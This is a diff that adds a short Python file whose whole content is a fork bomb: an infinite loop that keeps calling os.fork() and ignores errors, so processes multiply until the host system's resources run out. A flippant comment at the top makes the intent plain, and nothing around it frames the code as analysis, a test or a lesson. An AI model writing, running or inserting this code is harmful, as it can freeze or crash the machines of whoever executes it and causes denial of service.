@@ -1,0 +1,8 @@
+# Forks, and so do the forks. Deserves nothing.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
